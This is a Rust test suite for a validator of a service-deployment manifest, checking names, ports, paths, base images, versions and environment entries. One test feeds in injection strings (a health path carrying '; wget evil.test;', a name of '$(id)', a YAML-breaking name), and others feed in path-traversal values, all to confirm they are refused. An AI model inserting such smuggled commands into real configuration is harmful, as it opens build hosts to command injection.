//! One test per manifest rule: each asserts the line, key and message a user would read.

use super::*;

const VALID: &str = r#"[project]
source = "https://github.com/battlescope/battle-monitor"
license = "MIT"

[registry]
host = "docker.io"
organization = "battlescope"

[release]
version = "3.0.0"
platforms = ["linux/amd64", "linux/arm64"]

[[service]]
name = "battle-service"
description = "Battle clustering"
kind = "node"
path = "services/battle-service"
port = 3000
env = [
  { name = "DATABASE_URL", description = "PostgreSQL connection string", required = true },
]
"#;

fn problems(text: &str) -> Vec<Problem> {
    Manifest::parse(text, "services.toml", None).expect_err("the manifest should be refused").problems
}

/// The only problem of `text`, which must be on `line` and about `key`.
fn only_problem(text: &str, line: usize, key: &str) -> Problem {
    let found = problems(text);
    assert_eq!(found.len(), 1, "{found:#?}");
    let problem = found.into_iter().next().unwrap();
    assert_eq!((problem.line, problem.key.as_str()), (line, key), "{problem:#?}");
    problem
}

#[test]
fn valid_manifest_parses_with_defaults() {
    let manifest = Manifest::parse(VALID, "services.toml", None).unwrap();
    assert_eq!(manifest.release.version, semver::Version::new(3, 0, 0));
    assert_eq!(manifest.release.platforms, [Platform::LinuxAmd64, Platform::LinuxArm64]);
    let service = &manifest.services[0];
    assert_eq!(service.health, "/health");
    assert_eq!(service.base.as_deref(), Some("node:20-alpine"));
    assert_eq!(service.build_base.as_deref(), Some("node:20-alpine"));
    assert_eq!(service.main, "src/index.js");
    assert!(service.env[0].required);
}

#[test]
fn the_repository_manifest_is_valid() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).parent().unwrap();
    let manifest = Manifest::load(root).unwrap();
    let names: Vec<&str> = manifest.services.iter().map(|service| service.name.as_str()).collect();
    assert_eq!(
        names,
        [
            "ingestion-service",
            "enrichment-service",
            "battle-service",
            "search-service",
            "notification-service",
            "frontend-bff",
            "frontend"
        ]
    );
    assert_eq!(
        (manifest.registry.host.as_str(), manifest.registry.organization.as_str()),
        ("docker.io", "battlescope")
    );
    assert_eq!(manifest.release.version.to_string(), "3.0.0");
}

#[test]
fn unknown_key_is_refused_with_its_line() {
    let text = VALID.replace("port = 3000", "port = 3000\nimagee = \"x\"");
    let problem = only_problem(&text, 19, "key `imagee`");
    assert!(problem.message.starts_with("unknown field `imagee`"), "{problem:?}");
    assert!(problem.fix.contains("remove the key"));
}

#[test]
fn missing_key_is_named() {
    let problem = only_problem(&VALID.replace("port = 3000\n", ""), 13, "key `port`");
    assert!(problem.message.contains("missing field `port`"), "{problem:?}");
}

#[test]
fn name_must_be_kebab_case() {
    let problem = only_problem(&VALID.replace("\"battle-service\"\n", "\"Battle_Service\"\n"), 14, "key `name`");
    assert!(problem.message.contains("not kebab-case"));
    assert!(problem.fix.contains("single hyphens"));
}

#[test]
fn names_must_be_unique() {
    let second = VALID.split("[[service]]").nth(1).unwrap();
    let text = format!("{VALID}\n[[service]]{second}");
    let found = problems(&text);
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(found[0].line, 24);
    assert!(found[0].message.contains("used twice"));
}

#[test]
fn port_must_be_in_range_and_unprivileged() {
    let problem =
        only_problem(&VALID.replace("port = 3000", "port = 70000"), 18, "service `battle-service`, key `port`");
    assert!(problem.message.contains("70000 is out of range"));
    let problem = only_problem(&VALID.replace("port = 3000", "port = 80"), 18, "service `battle-service`, key `port`");
    assert!(problem.message.contains("privileged"));
}

#[test]
fn paths_must_stay_inside_the_repository() {
    for path in ["../elsewhere", "/etc", "services/../../x", ""] {
        let problem = only_problem(
            &VALID.replace("\"services/battle-service\"", &format!("{path:?}")),
            17,
            "service `battle-service`, key `path`",
        );
        assert!(problem.message.contains("not a path inside the repository"), "{path}: {problem:?}");
    }
}

#[test]
fn paths_must_exist_when_a_root_is_given() {
    let root = tempfile::tempdir().unwrap();
    let error = Manifest::parse(VALID, "services.toml", Some(root.path())).unwrap_err();
    assert_eq!(error.problems.len(), 1);
    assert!(error.problems[0].message.contains("directory `services/battle-service` does not exist"));
    std::fs::create_dir_all(root.path().join("services/battle-service")).unwrap();
    Manifest::parse(VALID, "services.toml", Some(root.path())).unwrap();
}

#[test]
fn a_symbolic_link_out_of_the_repository_is_refused() {
    let root = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(root.path().join("services")).unwrap();
    std::os::unix::fs::symlink(outside.path(), root.path().join("services/battle-service")).unwrap();
    let error = Manifest::parse(VALID, "services.toml", Some(root.path())).unwrap_err();
    assert_eq!(error.problems.len(), 1, "{error:?}");
    assert!(error.problems[0].message.contains("leads outside the repository through a symbolic link"), "{error:?}");
}

#[test]
fn text_that_would_reach_a_shell_or_yaml_is_refused() {
    // The health path goes into the HEALTHCHECK's shell command; names into commands and YAML.
    let health = only_problem(
        &VALID.replace("port = 3000", "port = 3000\nhealth = '/health\"; wget evil.test; \"'"),
        19,
        "service `battle-service`, key `health`",
    );
    assert!(health.message.contains("is not a plain URL path"), "{health:?}");
    for name in ["battle;service", "battle service", "$(id)", "battle-service\n- evil"] {
        let problems = problems(&VALID.replace("name = \"battle-service\"", &format!("name = {name:?}")));
        assert!(problems.iter().any(|problem| problem.message.contains("is not kebab-case")), "{name}: {problems:?}");
    }
}

#[test]
fn kind_must_be_known() {
    let problem = only_problem(&VALID.replace("kind = \"node\"", "kind = \"nodejs\""), 16, "key `kind`");
    assert!(
        problem.message.contains("unknown variant `nodejs`, expected one of `node`, `static`, `rust`, `dockerfile`"),
        "{problem:?}"
    );
}

#[test]
fn base_images_are_pinned_and_never_latest() {
    let with_base = |base: &str| VALID.replace("port = 3000", &format!("port = 3000\nbase = {base:?}"));
    assert!(only_problem(&with_base("node"), 19, "service `battle-service`, key `base`").message.contains("no tag"));
    assert!(
        only_problem(&with_base("node:latest"), 19, "service `battle-service`, key `base`")
            .message
            .contains("`latest`")
    );
    assert!(
        only_problem(&with_base("Node:20"), 19, "service `battle-service`, key `base`").message.contains("repository")
    );
    Manifest::parse(&with_base("node:22-alpine"), "services.toml", None).unwrap();
}

#[test]
fn version_is_semver_without_v() {
    let problem = only_problem(&VALID.replace("\"3.0.0\"", "\"v3.0.0\""), 10, "key `release.version`");
    assert!(problem.fix.contains("without the leading `v`"));
    let problem = only_problem(&VALID.replace("\"3.0.0\"", "\"3.0.0+build.1\""), 10, "key `release.version`");
    assert!(problem.message.contains("build metadata"));
}

#[test]
fn platforms_are_the_known_two() {
    let problem = only_problem(&VALID.replace("\"linux/arm64\"]", "\"linux/s390x\"]"), 11, "key `release.platforms`");
    assert!(problem.message.contains("unknown platform `linux/s390x`"));
}

#[test]
fn registry_and_organization_are_checked() {
    let problem = only_problem(&VALID.replace("\"docker.io\"", "\"Docker.IO\""), 6, "key `registry.host`");
    assert!(problem.message.contains("lowercase host name"));
    let problem = only_problem(&VALID.replace("\"battlescope\"", "\"Battle Scope\""), 7, "key `registry.organization`");
    assert!(problem.message.contains("not a lowercase organization name"));
}

#[test]
fn env_entries_are_checked() {
    let env = |entry: &str| {
        VALID.replace(
            "{ name = \"DATABASE_URL\", description = \"PostgreSQL connection string\", required = true }",
            entry,
        )
    };
    let key = "service `battle-service`, env `DATABASE_URL`";
    assert!(
        only_problem(&env("{ name = \"DATABASE_URL\", description = \"d\" }"), 20, key)
            .message
            .contains("neither a default")
    );
    assert!(
        only_problem(
            &env("{ name = \"DATABASE_URL\", description = \"d\", default = \"x\", required = true }"),
            20,
            key
        )
        .message
        .contains("both a default")
    );
    assert!(
        only_problem(
            &env("{ name = \"PORT\", description = \"d\", default = \"1\" }"),
            20,
            "service `battle-service`, env `PORT`"
        )
        .fix
        .contains("set `port`")
    );
    assert!(
        only_problem(
            &env("{ name = \"db-url\", description = \"d\", default = \"1\" }"),
            20,
            "service `battle-service`, env `db-url`"
        )
        .message
        .contains("not an environment variable name")
    );
}

#[test]
fn description_is_one_line() {
    let problem = only_problem(
        &VALID.replace("\"Battle clustering\"", "\"Battle\\nclustering\""),
        15,
        "service `battle-service`, key `description`",
    );
    assert!(problem.message.contains("line break"));
}

#[test]
fn every_problem_is_reported_at_once_with_file_and_line() {
    let text = VALID
        .replace("port = 3000", "port = 0")
        .replace("\"node\"", "\"static\"")
        .replace("\"Battle clustering\"", "\" \"");
    let error = Manifest::parse(&text, "services/services.toml", None).unwrap_err();
    let message = error.to_string();
    assert!(message.starts_with("services/services.toml has 2 problems"), "{message}");
    assert!(
        message.contains("services/services.toml:15: service `battle-service`, key `description`: is empty"),
        "{message}"
    );
    assert!(message.contains("services/services.toml:18:"), "{message}");
}

#[test]
fn the_version_is_set_in_place() {
    let text = VALID.replace("version = \"3.0.0\"", "version = \"3.0.0\" # bumped by the release");
    let after = with_version(&text, &semver::Version::parse("3.1.0").unwrap()).unwrap();
    assert_eq!(after, text.replace("\"3.0.0\"", "\"3.1.0\""));
}

#[test]
fn the_scan_policy_is_read_and_checked() {
    let manifest = Manifest::parse(VALID, "services.toml", None).unwrap();
    assert_eq!(manifest.scan, crate::scan::Policy::default(), "on, with Trivy, failing on HIGH, when absent");
    let text = format!(
        "{VALID}\n[scan]\nscanner = \"grype\"\nfail_on = \"critical\"\nignore_unfixed = true\n\n[[scan.allow]]\nid = \"CVE-2019-14697\"\nreason = \"musl is not reachable from the service\"\nexpires = \"2027-01-31\"\n"
    );
    let policy = Manifest::parse(&text, "services.toml", None).unwrap().scan;
    assert_eq!(
        (policy.scanner, policy.fail_on, policy.ignore_unfixed),
        (crate::scan::Scanner::Grype, crate::scan::Severity::Critical, true)
    );
    assert_eq!(policy.allow[0].expires, "2027-01-31");
    let problem = only_problem(&text.replace("2027-01-31", "soon"), 31, "scan.allow `CVE-2019-14697`");
    assert!(problem.message.contains("is not a date"), "{problem:?}");
    let problem = only_problem(&text.replace("\"grype\"", "\"clair\""), 24, "key `scanner`");
    assert!(
        problem.message.contains("unknown variant `clair`, expected one of `trivy`, `grype`, `none`"),
        "{problem:?}"
    );
}

#[test]
fn pins_replace_a_base_or_add_one_under_kind() {
    let text = VALID.replace("port = 3000", "port = 3000\nbase = \"node:20-alpine\" # the runtime");
    let pins = [
        Pin { service: "battle-service".into(), key: "base", value: "node:20-alpine@sha256:aa".into() },
        Pin { service: "battle-service".into(), key: "build_base", value: "node:20-alpine@sha256:bb".into() },
    ];
    let after = with_pins(&text, &pins).unwrap();
    let expected = text
        .replace("base = \"node:20-alpine\" # the runtime", "base = \"node:20-alpine@sha256:aa\" # the runtime")
        .replace("kind = \"node\"\n", "kind = \"node\"\nbuild_base = \"node:20-alpine@sha256:bb\"\n");
    assert_eq!(after, expected);
}
